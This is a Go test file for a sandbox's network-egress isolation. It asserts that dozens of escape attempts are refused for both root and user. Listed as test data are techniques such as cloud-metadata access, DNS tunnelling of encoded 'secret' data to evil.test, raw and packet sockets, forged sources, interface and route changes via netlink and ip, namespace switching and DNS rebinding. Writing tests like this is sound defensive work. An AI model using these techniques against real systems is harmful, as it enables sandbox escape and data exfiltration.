package egress

import (
	_ "embed"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"strconv"
	"strings"
	"testing"

	"github.com/dsec-platform/dsec/internal/egress/egresstest"
	dsec "github.com/dsec-platform/dsec/sdk/go"
)

//go:embed testdata/attempts.py
var attemptsPy string

// slack is far above what a refusal takes, and far below any time-out.
const slack = 1000.0 // ms

// attempt is one way out that a box tries: a function of attempts.py and its arguments.
type attempt []any

// outcome is how it ended.
type outcome struct {
	label, said string
	ms          float64
}

func (o outcome) went() bool { return o.said == "WENT" }

// attempts runs them in the box, in their order.
func (r *rig) attempts(s *dsec.Session, user string, list []attempt) []outcome {
	r.t.Helper()
	arg, err := json.Marshal(list)
	if err != nil {
		r.t.Fatal(err)
	}
	res, err := s.Run(r.t.Context(), dsec.Command{Argv: []string{"python3", "-c", attemptsPy, string(arg)}, User: user})
	if err != nil {
		r.t.Fatalf("as %s: %v", user, err)
	}
	var all []outcome
	for line := range strings.Lines(string(dsec.Output(res.GetStdout()))) {
		f := strings.Split(strings.TrimSuffix(line, "\n"), "\t")
		if len(f) != 3 {
			r.t.Fatalf("as %s: %q", user, line)
		}
		ms, _ := strconv.ParseFloat(f[2], 64)
		all = append(all, outcome{f[0], f[1], ms})
	}
	if len(all) != len(list) {
		r.t.Fatalf("as %s: %d of %d attempts ended: %v\n%s", user, len(all), len(list), all, dsec.Output(res.GetStderr()))
	}
	return all
}

// unreachable is what no policy lets a box reach.
func unreachable(abstract string) []attempt {
	return []attempt{
		{"metadata", "tcp", egresstest.MetadataAddr, 80},
		{"metadata, UDP", "udp", egresstest.MetadataAddr, 80},
		{"metadata by another notation", "tcp", "0xa9fea9fe", 80},
		{"the node's uplink", "tcp", egresstest.NodeAddr, 22},
		{"the node's uplink, UDP", "udp", egresstest.NodeAddr, 53},
		{"the gateway", "tcp", "10.0.2.2", 22},
		{"the gateway as a name server", "query", "10.0.2.2", 1, "good.test"},
		{"the name server's other port", "tcp", "10.0.2.3", 80},
		{"another box's address", "tcp", "10.0.2.16", 80},
		{"the subnet's broadcast", "spills", "10.0.2.255", 9},
		{"a private service", "tcp", egresstest.ServiceAddr, 80},
		{"a private service, UDP", "udp", egresstest.ServiceAddr, 80},
		{"carrier-grade NAT", "tcp", "100.64.0.1", 80},
		{"multicast", "spills", "224.0.0.251", 5353},
		{"IPv6", "tcp6", "2001:db8::1", 443},
		{"IPv6, UDP", "udp6", "2001:db8::1", 443},
		{"IPv4 in IPv6", "tcp6", "::ffff:" + egresstest.MetadataAddr, 80},
		{"IPv6 link-local", "tcp6", "fe80::1%eth0", 80},
		{"ping", "ping", egresstest.GoodAddr},
		{"raw ICMP", "sock", 2, 3, 1},
		{"raw IP", "sock", 2, 3, 255},
		{"SCTP", "sock", 2, 1, 132},
		{"UDP-Lite", "sock", 2, 2, 136},
		{"MPTCP", "sock", 2, 1, 262},
		{"vsock", "sock", 40, 1, 0},
		{"XDP", "sock", 44, 3, 0},
		{"netfilter", "sock", 16, 3, 12},
		{"socket diagnosis", "sock", 16, 3, 4},
		{"packet socket", "sock", 17, 3, 768},
		{"frame of its own", "frame"},
		{"forged source", "forged", egresstest.NodeAddr, egresstest.GoodAddr, 80},
		{"transparent source", "option", 0, 19, 1},
		{"packet mark", "option", 1, 36, 7},
		{"abstract socket of the node", "abstract", abstract},
		{"sweep of the private service's net", "sweep", "10.66.0.", 80},
	}
}

// unallowed is what a policy of names does not let a box reach.
func unallowed() []attempt {
	return []attempt{
		{"name that is not allowed", "name", "evil.test"},
		{"tunnel in a name", "query", "10.0.2.3", 1, "c2VjcmV0LWRhdGE.tunnel.evil.test"},
		{"tunnel in TXT", "query", "10.0.2.3", 16, "tunnel.evil.test"},
		{"tunnel over TCP", "query", "10.0.2.3", 16, "tunnel.evil.test", "tcp"},
		{"tunnel in TXT below an allowed name", "query", "10.0.2.3", 16, "c2VjcmV0.good.test"},
		{"another name server", "query", "8.8.8.8", 1, "evil.test"},
		{"another name server over TCP", "query", "8.8.8.8", 1, "evil.test", "tcp"},
		{"the node's resolver", "query", egresstest.ResolverAddr, 1, "evil.test"},
		{"DNS over TLS", "tcp", "8.8.8.8", 853},
		{"DNS over HTTPS", "tcp", "8.8.8.8", 443},
		{"plain address", "tcp", egresstest.EvilAddr, 80},
		{"plain address, TLS", "tcp", egresstest.EvilAddr, 443},
		{"plain address, UDP", "udp", egresstest.EvilAddr, 443},
		{"allowed address, other port", "tcp", egresstest.GoodAddr, 22},
		{"QUIC to an allowed address", "udp", egresstest.GoodAddr, 443},
		{"port scan of an allowed address", "scan", egresstest.GoodAddr, 1000, 1300},
		{"port scan of another address", "scan", egresstest.EvilAddr, 1, 300},
		{"refused name, HTTP", "sends", "evil.test", 80, "GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n"},
		{"refused name, TLS", "tls", "evil.test", 443, "evil.test"},
		{"refused name, TLS of another", "tls", "evil.test", 443, "good.test"},
		{"refused name, TLS without a name", "tls", "evil.test", 443, ""},
		{"refused name, SSH", "tcp", "evil.test", 22},
		{"refused name, QUIC", "udp", "evil.test", 443},
		{"the explainer, another host", "sends", "192.0.0.8", 80, "GET / HTTP/1.1\r\nHost: good.test\r\n\r\n"},
		{"the explainer, a tunnel", "sends", "192.0.0.8", 80, "CONNECT good.test:443 HTTP/1.1\r\nHost: good.test\r\n\r\n"},
		{"the explainer, no TLS", "sends", "192.0.0.8", 443, "SSH-2.0-x\r\n"},
		{"the explainer, other ports", "scan", "192.0.0.8", 1, 79},
		{"the explainer, UDP", "udp", "192.0.0.8", 53},
	}
}

// lies are told to an address that was allowed by name.
func lies() []attempt {
	return []attempt{
		{"another name in TLS", "tls", egresstest.GoodAddr, 443, "evil.test"},
		{"no name in TLS", "tls", egresstest.GoodAddr, 443, ""},
		{"no TLS at its port", "sends", egresstest.GoodAddr, 443, "SSH-2.0-x\r\n"},
		{"another host in HTTP", "sends", egresstest.GoodAddr, 80, "GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n"},
		{"a tunnel in HTTP", "sends", egresstest.GoodAddr, 80, "CONNECT evil.test:443 HTTP/1.1\r\nHost: good.test\r\n\r\n"},
		{"no HTTP at its port", "sends", egresstest.GoodAddr, 80, "\x00\x01\x02\r\n\r\n"},
	}
}

// administration is what the box's own root tries with its interfaces.
func administration() []attempt {
	const ack, create = 0, 0x600
	return []attempt{
		{"remove eth0", "netlink", 17, ack, "00000000INDEX0000000000000000"},
		{"bring eth0 down", "netlink", 16, ack, "00000000INDEX0000000001000000"},
		{"bring eth0 down by ioctl", "ifdown"},
		{"another address", "netlink", 20, create, "02180000INDEX" + "08000200" + "0a000263"},
		{"another route", "netlink", 24, create, "0220000000fe0301" + "00000000" + "08000100" + "cb00710b" + "08000400INDEX"},
		{"another device", "netlink", 16, create, "00000000000000000000000000000000" + "10001200" + "0a000100" + "64756d6d79000000"},
		{"eth0 into another namespace", "netlink", 16, ack, "00000000INDEX0000000000000000" + "08001300" + "01000000"},
		{"ip link", "shell", "ip link set eth0 down"},
		{"ip address", "shell", "ip addr add 10.0.2.99/24 dev eth0"},
		{"ip route", "shell", "ip route replace default via 10.0.2.99"},
		{"ip tuntap", "shell", "ip tuntap add dev eth0 mode tap"},
		{"the device of TAPs", "opens", "/dev/net/tun"},
		{"the device of TAPs, made", "mktun", "/tmp/tun"},
		{"namespace of PID 1", "setns", "/proc/1/ns/net"},
		{"namespace of itself", "setns", "/proc/self/ns/net"},
		{"new network namespace", "unshare", 0x40000000},
		{"new user and network namespace", "unshare", 0x50000000},
		{"forwarding", "writes", "/proc/sys/net/ipv4/ip_forward", "1"},
		{"IPv6 back on", "writes", "/proc/sys/net/ipv6/conf/all/disable_ipv6", "0"},
		{"routes without a carrier", "writes", "/proc/sys/net/ipv4/conf/all/ignore_routes_with_linkdown", "0"},
		{"queue of eth0", "writes", "/sys/class/net/eth0/tx_queue_len", "1"},
	}
}

// Everything of the list is refused, at once, to root and to user under every kind of policy, and no packet leaves the node for it.
func TestWaysOut(t *testing.T) {
	r := start(t)
	r.DNS.Set("good.test", egresstest.GoodAddr)
	r.DNS.Set("evil.test", egresstest.EvilAddr)
	for _, addr := range []string{egresstest.GoodAddr, egresstest.EvilAddr, egresstest.ServiceAddr, egresstest.MetadataAddr} {
		r.HTTP(addr+":80", false, http.HandlerFunc(egresstest.Hello))
	}
	r.HTTP(egresstest.GoodAddr+":443", true, http.HandlerFunc(egresstest.Hello))
	r.Handle(egresstest.GoodAddr+":22", func(net.Conn) {})
	r.Handle("0.0.0.0:853", func(net.Conn) {})
	abstract := fmt.Sprintf("dsec-egress-%d", os.Getpid())
	ln, err := net.Listen("unix", "@"+abstract)
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()

	good := []attempt{{"HTTP", "sends", "good.test", 80, "GET / HTTP/1.1\r\nHost: good.test\r\n\r\n"}, {"TLS", "tls", "good.test", 443, "good.test"}}
	for _, p := range []struct {
		name, network string
		lists         [][]attempt
		open          bool
	}{
		{"whitelist", `{egress_policy: whitelist, allowed_domains: ["good.test"]}`, [][]attempt{unallowed(), lies()}, true},
		{"open", `{egress_policy: open}`, nil, true},
		{"deny", `{egress_policy: deny}`, [][]attempt{unallowed(), lies()}, false},
	} {
		t.Run(p.name, func(t *testing.T) {
			r := r.in(t)
			s := r.session(p.network)
			list := append(unreachable(abstract), administration()...)
			for _, l := range p.lists {
				list = append(list, l...)
			}
			for _, user := range []string{"root", "user"} {
				if p.open {
					for _, o := range r.attempts(s, user, good) {
						if !o.went() {
							t.Errorf("as %s, what is allowed: %+v", user, o)
						}
					}
				}
				before, worst := r.calm(), outcome{}
				r.DNS.Asked()
				for _, o := range r.attempts(s, user, list) {
					t.Logf("%-9s %-4s %8.2f ms  %-40s %s", p.name, user, o.ms, o.label, o.said)
					if o.went() || o.said == "HUNG" || strings.Contains(o.said, "timed out") {
						t.Errorf("as %s, %s: %s after %.0f ms", user, o.label, o.said, o.ms)
					}
					if o.ms > slack && !strings.HasPrefix(o.label, "sweep") {
						t.Errorf("as %s, %s: refused only after %.0f ms", user, o.label, o.ms)
					}
					if o.ms > worst.ms && o.said != "OSError swallowed" { // which is a wait of the attempt's own
						worst = o
					}
				}
				if n := r.Uplink() - before; n != 0 {
					t.Errorf("as %s: %d packets left the node", user, n)
				}
				if asked := r.DNS.Asked(); len(asked) > 0 {
					t.Errorf("as %s: the node's resolver was asked %v", user, asked)
				}
				t.Logf("%s as %s: %d attempts, the slowest %.2f ms (%s), 0 packets on the uplink", p.name, user, len(list), worst.ms, worst.label)
			}
			if p.open { // the box's own network is as it was
				for _, o := range r.attempts(s, "user", good) {
					if !o.went() {
						t.Errorf("after all that: %+v", o)
					}
				}
			}
			if err := r.c.Healthy(t.Context()); err != nil {
				t.Error(err)
			}
		})
	}
}

// Names whose answers change, or are not what they should be, lead nowhere.
func TestNamesThatChange(t *testing.T) {
	r := start(t)
	r.HTTP(egresstest.GoodAddr+":80", false, http.HandlerFunc(egresstest.Hello))
	r.HTTP(egresstest.ServiceAddr+":80", false, http.HandlerFunc(egresstest.Hello))
	r.DNS.Set("rebind.test", egresstest.GoodAddr)
	for name, addr := range map[string]string{
		"a": egresstest.MetadataAddr, "b": "127.0.0.1", "c": egresstest.ServiceAddr, "d": egresstest.NodeAddr, "e": "0.0.0.0", "f": "10.0.2.3", "g": "100.100.100.200",
	} {
		r.DNS.Set(name+".wild.test", addr)
	}
	for _, network := range []string{`{egress_policy: whitelist, allowed_domains: ["rebind.test", "*.wild.test"]}`, `{egress_policy: open}`} {
		r.DNS.Set("rebind.test", egresstest.GoodAddr)
		s := r.session(network)
		if o := r.attempts(s, "root", []attempt{{"before", "tcp", "rebind.test", 80}})[0]; !o.went() {
			t.Errorf("%s: %+v", network, o)
		}
		r.DNS.Set("rebind.test", egresstest.ServiceAddr)
		list := []attempt{{"where it leads now", "tcp", egresstest.ServiceAddr, 80}}
		for _, n := range []string{"a", "b", "c", "d", "e", "f", "g"} {
			list = append(list, attempt{n, "name", n + ".wild.test"})
		}
		for _, o := range r.attempts(s, "root", list) {
			if o.went() || o.ms > slack {
				t.Errorf("%s: %+v", network, o)
			}
		}
		// Whether the old answer still holds or the new one is refused: the private service is never reached.
		out, _ := r.sh(s, `python3 -c 'import urllib.request; print(urllib.request.urlopen("http://rebind.test/", timeout=5).read())' 2>&1`)
		if strings.Contains(out, egresstest.ServiceAddr) {
			t.Errorf("%s: the private service answered: %s", network, out)
		}
	}
}

// The seccomp profile that allows sockets for echoes lets them reach nothing either.
func TestPingSockets(t *testing.T) {
	r := start(t)
	s, err := r.c.Create(t.Context(), dsec.CreateOptions{SpecYAML: "seccomp: {profile: network}\nnetwork: {egress_policy: open}\n"})
	if err != nil {
		t.Fatal(err)
	}
	before := r.Uplink()
	for _, user := range []string{"root", "user"} {
		for _, o := range r.attempts(s, user, append(unreachable("none"), administration()...)) {
			if o.went() || o.said == "HUNG" || o.ms > slack {
				t.Errorf("as %s: %+v", user, o)
			}
			if o.label == "ping" {
				t.Logf("as %s: %+v", user, o)
			}
		}
	}
	if n := r.Uplink() - before; n != 0 {
		t.Errorf("%d packets left the node", n)
	}
}

// Two boxes have the same address, and do not meet.
func TestBoxesDoNotMeet(t *testing.T) {
	r := start(t)
	r.Handle(egresstest.GoodAddr+":80", func(c net.Conn) { _, _ = io.Copy(io.Discard, c) })
	a, b := r.session(`{egress_policy: open}`), r.session(`{egress_policy: open}`)
	p, err := a.Start(t.Context(), dsec.Command{Background: true, Argv: []string{"python3", "-c", `import socket,time
s = socket.socket(); s.bind(("0.0.0.0", 8000)); s.listen()
u = socket.socket(socket.AF_UNIX); u.bind("\0dsec-meeting"); u.listen()
time.sleep(60)`}})
	if err != nil {
		t.Fatal(err)
	}
	p.Close()
	own := []attempt{{"its own port", "tcp", "10.0.2.15", 8000}, {"its own abstract socket", "abstract", "dsec-meeting"}}
	for range 20 {
		if r.attempts(a, "user", own)[1].went() {
			break
		}
	}
	for _, o := range r.attempts(a, "user", own) {
		if !o.went() {
			t.Errorf("in the box itself: %+v", o)
		}
	}
	for _, o := range r.attempts(b, "root", own) {
		if o.went() || o.ms > slack {
			t.Errorf("from another box: %+v", o)
		}
	}
}
